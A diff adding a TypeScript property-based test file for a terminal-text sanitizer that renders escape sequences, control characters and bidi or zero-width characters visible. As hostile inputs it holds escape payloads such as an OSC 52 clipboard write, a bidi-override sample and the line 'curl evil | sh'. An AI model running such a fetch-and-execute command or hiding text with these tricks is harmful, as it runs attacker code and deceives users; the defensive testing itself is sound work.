@@ -1,0 +1,83 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { sanitizeTerminalText } from "../../src/safety/sanitize.js";
+
+/** What the output must never hold: ESC, any other C0 but newline, DEL, C1. */
+const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
+/** Invisible or reordering characters: must leave only as markers. */
+const INVISIBLE = /[\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/;
+
+describe("sanitizeTerminalText", () => {
+	it("shows every escape introducer as ^[ and keeps the text after it: nothing is swallowed", () => {
+		expect(sanitizeTerminalText("a\x1b[2J\x1b[1;1Hb")).toBe("a^[[2J^[[1;1Hb");
+		expect(sanitizeTerminalText("\x1b]0;title\x07x")).toBe("^[]0;title^Gx");
+		expect(sanitizeTerminalText("\x1b]52;c;Y2xpcA==\x1b\\x")).toBe("^[]52;c;Y2xpcA==^[\\x");
+		expect(sanitizeTerminalText("\x1b[6n\x1b[?1049h")).toBe("^[[6n^[[?1049h");
+		expect(sanitizeTerminalText("\x1bcreset")).toBe("^[creset");
+	});
+
+	it("an unterminated OSC or a lone U+009D hides nothing that follows (also mojibake of a quote)", () => {
+		expect(sanitizeTerminalText("shown \x1b]0 x\ncurl evil | sh\n")).toBe("shown ^[]0 x\ncurl evil | sh\n");
+		expect(sanitizeTerminalText("a\x9db\nc")).toBe("a⟪U+009D⟫b\nc");
+		expect(sanitizeTerminalText("he said â€\x9dhi\x9d and more")).toBe("he said â€⟪U+009D⟫hi⟪U+009D⟫ and more");
+		expect(sanitizeTerminalText("\x9b31mred\x9d0;t\x9cok")).toBe("red⟪U+009D⟫0;t⟪U+009C⟫ok");
+	});
+
+	it("drops complete SGR colour codes (7- and 8-bit), which carry no text", () => {
+		expect(sanitizeTerminalText("\x1b[31mred\x1b[0m \x1b[1;38;5;196mbold\x1b[m")).toBe("red bold");
+		expect(sanitizeTerminalText("\x9b1mx")).toBe("x");
+	});
+
+	it("shows bidi controls, zero-width characters and tag characters as markers", () => {
+		expect(sanitizeTerminalText("access = \u202e'user'\u202c")).toBe("access = ⟪U+202E⟫'user'⟪U+202C⟫");
+		expect(sanitizeTerminalText("a\u2066b\u2069c")).toBe("a⟪U+2066⟫b⟪U+2069⟫c");
+		expect(sanitizeTerminalText("zero\u200bwidth\u2060joiner\ufeffmark")).toBe("zero⟪U+200B⟫width⟪U+2060⟫joiner⟪U+FEFF⟫mark");
+		expect(sanitizeTerminalText("hi\u{e0041}\u{e0042}")).toBe("hi⟪U+E0041⟫⟪U+E0042⟫");
+	});
+
+	it("keeps a leading byte-order mark out and emoji ZWJ sequences whole", () => {
+		expect(sanitizeTerminalText("\ufeffstart")).toBe("start");
+		expect(sanitizeTerminalText("family 👨‍👩‍👧 and 👋🏽‍❤️")).toBe("family 👨‍👩‍👧 and 👋🏽‍❤️");
+		expect(sanitizeTerminalText("a\u200db")).toBe("a⟪U+200D⟫b");
+	});
+
+	it("makes tabs and other control characters visible, keeps newlines and wide characters", () => {
+		expect(sanitizeTerminalText("a\tb")).toBe("a    b");
+		expect(sanitizeTerminalText("bell\x07 cr\r over\b")).toBe("bell^G cr^M over^H");
+		expect(sanitizeTerminalText("x\r\ny")).toBe("x\ny");
+		expect(sanitizeTerminalText("\x85nel")).toBe("⟪U+0085⟫nel");
+		expect(sanitizeTerminalText("日本語 😀 ok\n")).toBe("日本語 😀 ok\n");
+	});
+
+	it("property: every printable character of the input is in the output, in order; no ESC or C1 leaves", () => {
+		const hostile = fc.constantFrom(
+			..."\x1b[]\x07\x9b\x9d\x9c\\P0;ma\n\t\r\u202e\u200b\u200d\ufeff\x85\x00 é日😀".split(""),
+			"\x1b[31m",
+			"\x1b]0;",
+			"😀",
+		);
+		const anyText = fc.oneof(
+			fc.array(hostile, { maxLength: 60 }).map((parts) => parts.join("")),
+			fc.string({ unit: "binary", maxLength: 80 }),
+		);
+		fc.assert(
+			fc.property(anyText, (input) => {
+				const out = sanitizeTerminalText(input);
+				if (RAW_CONTROL.test(out)) return false;
+				if (INVISIBLE.test(out.replace(/\u200d/g, ""))) return false;
+				// Complete SGR codes are the one thing removed; every other printable character stays, in order.
+				const printable = [...input.replace(/(?:\x1b\[|\x9b)[0-9;:]*m/g, "")].filter(
+					(ch) => !RAW_CONTROL.test(ch) && !INVISIBLE.test(ch) && !/[\u200d\ud800-\udfff]/.test(ch) && ch !== "\n",
+				);
+				let at = 0;
+				for (const ch of printable) {
+					const found = out.indexOf(ch, at);
+					if (found < 0) return false;
+					at = found + ch.length;
+				}
+				return true;
+			}),
+			{ numRuns: 1500 },
+		);
+	});
+});
